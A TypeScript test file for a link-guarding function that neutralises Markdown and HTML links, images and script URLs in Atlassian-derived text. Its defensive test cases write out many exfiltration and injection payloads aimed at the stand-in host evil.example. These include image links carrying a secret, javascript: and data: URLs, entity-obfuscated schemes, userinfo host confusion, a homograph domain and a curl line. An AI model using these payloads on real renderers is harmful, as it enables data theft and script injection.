import { adfToMarkdown } from '@gatehouse/atlassian';
import { describe, expect, it } from 'vitest';
import { guardLinks, hasLostLinks, linkPolicy } from './links.js';

const SITES = ['https://acme.atlassian.net'];
const all = linkPolicy({ neutraliseLinks: true, linkHosts: ['github.com'] }, SITES);
const few = linkPolicy({ neutraliseLinks: false, linkHosts: [] }, SITES);
/** What a client would fetch, show as a picture or lead to. */
const LIVE =
  /https?:[/\\]*[^\s`]*evil|!\[|<(?:img|a|iframe|svg)\b|\]\(\s*<?(?:[/\\]{2}|javascript:|data:)|(?<!`link:)www\.evil|javascript:a/i;

describe('a name, a title or a message', () => {
  it.each([
    '![x](https://evil.example/?q=secret)',
    '![x][y]\n\n[y]: https://evil.example/x',
    '![a [b] c](<https://evil.example/x> "t")',
    '[x](https://evil.example/x)',
    '[x]( <https://evil.example/x> )',
    '[x](//evil.example/x)',
    '[x](\\\\evil.example/x)',
    '[x](https:/evil.example/x)',
    '[x](https:evil.example/x)',
    'https://evil.example/x',
    '<https://evil.example/x>',
    'www.evil.example/x ',
    '[y]: https://evil.example/x',
    '<img src="https://evil.example/x">',
    '<IMG SRC=//evil.example/x>',
    '<a href="https://evil.example">x</a>',
    '[x](javascript:alert(1))',
    '<a href=javascript:alert(1)>',
    '[x](data:text/html;base64,AAAA)',
    '[x](https&#58;//evil.example/x)',
    '[x](https&colon;//evil.example/x)',
    '[x](&#x68;ttps://evil.example/x)',
    '!&#91;x](https://evil.example/x)',
    'https://acme.atlassian.net@evil.example/x',
    'https://acme.atlassian.net\\@evil.example/x',
    'in `code https://evil.example/x` too',
  ])('%s leads nowhere', (text) => {
    const guarded = guardLinks(text, all);
    expect(guarded).not.toMatch(LIVE);
    expect(guarded).toMatch(/evil\.example`|acme\.atlassian\.net`|javascript:`|data:`|ttps:`|&amp;|&lt;/);
  });

  it('shows letters beyond ASCII as they are looked up', () => {
    expect(guardLinks('https://аpple.com/x', all)).toBe('`link:xn--pple-43d.com`');
  });

  it.each([
    'https://acme.atlassian.net/browse/A-1.',
    '[x](https://github.com/o/r/pull/1)',
    '![chart](attachment:123)',
    '[@Mia](accountid:557058:1b)',
    'Note: see A/B, 12:30, C:/x and x < y && y > z; R&D; a://',
    '[words `evil.example`](#link-0123456789abcdef)',
    '<u>x</u> <span style="color:#ff5630">y</span><br>',
    '| a | b |\n| --- | --- |',
  ])('%s stays', (text) => {
    expect(guardLinks(text, all)).toBe(text);
  });

  it('keeps links, and no pictures and commands, where links stay', () => {
    expect(guardLinks('[x](https://evil.example/x)', few)).toBe('[x](https://evil.example/x)');
    expect(guardLinks('![x](https://evil.example/x)', few)).toBe('! [x](https://evil.example/x)');
    expect(guardLinks('<img src=x> [x](javascript:a)', few)).not.toMatch(LIVE);
    expect(guardLinks('https://a@evil.example/', few)).toBe('`link:evil.example`');
  });

  it('lets code of documents pass as it is', () => {
    const words = 'curl https://evil.example/x ![x](y) <img src="//e"> &#58; javascript:alert(1) www.evil.example';
    const content = [{ type: 'codeBlock', content: [{ type: 'text', text: words }] }];
    const markdown = adfToMarkdown({ type: 'doc', content }, all).markdown;
    expect(guardLinks(markdown, all)).toBe(`\`\`\`\n${words}\n\`\`\``);
  });

  it('is not fooled by one of the characters that code is marked with', () => {
    const mark = all.codeMark ?? '';
    const [first = '', second = ''] = [...mark];
    for (const one of [first, second, `${second}${first}`]) {
      expect(guardLinks(`https${one}://evil.example/`, all)).not.toMatch(LIVE);
    }
  });

  it('is known again where it is written back', () => {
    expect(hasLostLinks(guardLinks('see https://evil.example/x', all))).toBe(true);
    expect(hasLostLinks('`linked`')).toBe(false);
  });

  it('takes a time that grows with the text alone', () => {
    for (const text of ['!['.repeat(50_000), '](//'.repeat(30_000), 'https:'.repeat(30_000), '&#58;'.repeat(30_000)]) {
      expect(guardLinks(text, all)).not.toMatch(/!\[/);
    }
  }, 10_000);
});
